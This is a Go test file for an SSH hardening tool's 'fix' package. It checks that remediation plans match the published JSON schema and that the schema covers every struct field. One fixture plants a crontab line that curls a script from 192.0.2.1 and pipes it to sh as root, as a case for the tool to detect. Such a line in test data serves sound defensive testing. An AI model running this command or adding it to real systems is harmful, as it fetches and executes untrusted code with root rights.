package fix_test

import (
	"bytes"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/postern-ssh/postern/fix"
)

// Plans of all sorts fit the schema that is published.
func TestPlansFitTheSchema(t *testing.T) {
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(fix.Schema()))
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	if err := c.AddResource("plan.json", doc); err != nil {
		t.Fatal(err)
	}
	schema, err := c.Compile("plan.json")
	if err != nil {
		t.Fatal(err)
	}
	locked := newWorld().edited("UsePAM yes\nAllowUsers bob\n")
	jobs := newWorld().text("/etc/crontab", "0 * * * * root curl http://192.0.2.1/x | sh\n")
	key, _ := newWorld().install(t, "bob", key("new"))
	for name, h := range map[string]fix.Host{
		"everything": newWorld().planAll(t), "refused": locked.plan(t, "x11-forwarding"), "jobs": jobs.planAll(t), "a key": key,
		"a sub-policy": policyHost("LEGACY\n").plan(t, "weak-ciphers"), "a reload": locked.plan(t, "sshd-stale-config"), "nothing": newWorld().plan(t, "permit-empty-passwords"),
	} {
		var b bytes.Buffer
		if err := (&fix.Plan{Tool: "1", Made: now, Hosts: []fix.Host{h}}).Write(&b); err != nil {
			t.Fatal(err)
		}
		var saved struct{ Plan json.RawMessage }
		if err := json.Unmarshal(b.Bytes(), &saved); err != nil {
			t.Fatal(err)
		}
		got, err := jsonschema.UnmarshalJSON(bytes.NewReader(saved.Plan))
		if err != nil {
			t.Fatal(err)
		}
		if err := schema.Validate(got); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	if schema.Validate(map[string]any{"format": 1, "tool": "x"}) == nil {
		t.Error("half a plan fits")
	}
}

// The schema names each field that a plan is written with, and no other.
func TestSchemaIsWhole(t *testing.T) {
	type object struct {
		Properties map[string]any
		Required   []string
	}
	var s struct {
		object
		Defs map[string]object `json:"$defs"`
	}
	if err := json.Unmarshal(fix.Schema(), &s); err != nil {
		t.Fatal(err)
	}
	seen := map[reflect.Type]bool{}
	var walk func(rt reflect.Type, o object)
	walk = func(rt reflect.Type, o object) {
		seen[rt] = true
		var names []string
		for i := range rt.NumField() {
			f := rt.Field(i)
			name, opt, _ := strings.Cut(f.Tag.Get("json"), ",")
			names = append(names, name)
			if _, ok := o.Properties[name]; !ok {
				t.Errorf("%s: the schema lacks %s", rt.Name(), name)
			}
			if slices.Contains(o.Required, name) == strings.Contains(opt, "omit") {
				t.Errorf("%s: %s is required in the schema: %v", rt.Name(), name, slices.Contains(o.Required, name))
			}
			e := f.Type
			for e.Kind() == reflect.Slice || e.Kind() == reflect.Pointer {
				e = e.Elem()
			}
			if e.Kind() == reflect.Struct && e != reflect.TypeFor[time.Time]() && !seen[e] {
				walk(e, s.Defs[strings.ToLower(e.Name()[:1])+e.Name()[1:]])
			}
		}
		for name := range o.Properties {
			if !slices.Contains(names, name) {
				t.Errorf("%s: the schema has %s", rt.Name(), name)
			}
		}
	}
	walk(reflect.TypeFor[fix.Plan](), s.object)
}
